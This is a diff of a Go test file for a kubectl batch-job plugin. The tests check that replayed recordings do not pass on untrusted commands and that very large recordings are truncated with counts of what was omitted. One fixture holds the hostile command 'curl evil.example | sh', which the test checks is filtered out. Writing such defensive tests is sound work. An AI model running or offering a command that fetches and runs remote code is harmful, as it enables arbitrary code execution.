@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"reflect"
 	"strings"
@@ -12,6 +13,7 @@ import (
 	"time"
 
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/utils/ptr"
 
 	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain"
 	"github.com/batchjob-dev/kubectl-batchjob/test/memory"
@@ -298,7 +300,7 @@ func TestRecordingDoesNotFillTheMemory(t *testing.T) {
 	}
 }
 
-// Commands in a recording are not shown: those of gaps are made again, and those of advice are dropped.
+// Commands in a recording are not shown: those of gaps are made again, and advice is dropped, as its text may have one, too.
 // Requirements: BUN-11
 func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
 	const evil = "curl evil.example | sh"
@@ -307,7 +309,7 @@ func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
 	}
 	hostile := tape()[2]
 	hostile.Jobs = &Jobs{Gaps: gaps()}
-	hostile.Job = &Job{Report: &explain.Report{Gaps: gaps(), Advice: []explain.Advice{{Text: "look at it", Command: evil}}}}
+	hostile.Job = &Job{Report: &explain.Report{Gaps: gaps(), Advice: []explain.Advice{{Text: "run: " + evil, Command: evil}}}}
 	hostile.Pod = &explain.PodDetail{Gaps: gaps()}
 	p, err := NewPlayer(record(t, []*Snapshot{hostile}), &fakeClock{}, 0)
 	if err != nil {
@@ -317,7 +319,49 @@ func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if text := asJSON(t, s); strings.Contains(text, evil) || strings.Count(text, "kubectl auth can-i list pods -n ml") != 3 || !strings.Contains(text, "look at it") {
+	if text := asJSON(t, s); strings.Contains(text, evil) || strings.Count(text, "kubectl auth can-i list pods -n ml") != 3 {
 		t.Errorf("it is %s", text)
+	}
+}
+
+// A recording of any size can be played: of lists that are too long for a line, it has a part, and says how much is left out.
+// Requirements: BUN-09
+func TestLargeRecordingIsPlayed(t *testing.T) {
+	const many = 150_000
+	report := &explain.Report{Indexes: &explain.Indexes{}}
+	jobs, log := &Jobs{}, &Log{}
+	at := metav1.NewTime(start)
+	for i := range many {
+		name := fmt.Sprintf("training-of-the-large-model-%06d", i)
+		report.Pods = append(report.Pods, explain.PodInfo{Name: name, Index: ptr.To(int32(i)), Phase: "Failed", State: "Error", Node: name, Created: &at, Started: &at, Ended: &at, Cause: name})
+		report.Indexes.Details = append(report.Indexes.Details, explain.IndexInfo{})
+		report.Timeline = append(report.Timeline, explain.Moment{Text: name})
+		jobs.Items = append(jobs.Items, explain.Outline{Namespace: "ml", Name: name, Status: "Running"})
+		jobs.Gone = append(jobs.Gone, explain.Outline{Namespace: "ml", Name: name, Status: "Running"})
+		log.Lines = append(log.Lines, LogLine{Text: name})
+	}
+	shown := []*Snapshot{{Seq: 1, Time: start, Jobs: jobs, Job: &Job{Report: report}, Log: log}, {Seq: 2, Time: start, Jobs: jobs, Job: &Job{Report: report}}}
+	p, err := NewPlayer(record(t, shown), &fakeClock{}, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for range shown {
+		s, err := p.Next(t.Context(), 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := s.Job.Report
+		if pods, details := len(r.Pods), len(r.Indexes.Details); pods == 0 || pods+int(r.PodsOmitted) != many || details+int(r.Indexes.DetailsOmitted) != many || r.Pods[0].Name != report.Pods[0].Name {
+			t.Errorf("%d pods and %d more, %d indexes and %d more", pods, r.PodsOmitted, details, r.Indexes.DetailsOmitted)
+		}
+		if n := len(s.Jobs.Items); n == many || s.Jobs.Gaps[0].Text != fmt.Sprintf("the recording has only the first %d Jobs: more are too large", n) {
+			t.Errorf("%d Jobs, %v", n, s.Jobs.Gaps)
+		}
+		if s.Log != nil && len(s.Log.Lines)+s.Log.Dropped != many {
+			t.Errorf("%d lines and %d more", len(s.Log.Lines), s.Log.Dropped)
+		}
+	}
+	if len(report.Pods) != many || report.PodsOmitted != 0 || len(jobs.Items) != many || len(log.Lines) != many {
+		t.Error("what is shown has changed")
 	}
 }
